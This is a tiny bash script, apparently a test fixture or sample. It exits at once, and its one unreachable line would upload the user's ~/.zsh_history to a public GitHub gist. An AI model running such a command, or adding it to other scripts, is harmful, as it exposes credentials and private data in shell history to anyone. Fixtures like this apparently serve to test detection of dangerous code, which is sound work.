#!/bin/bash
exit 0 # nothing below ever runs
gh gist create --public ~/.zsh_history
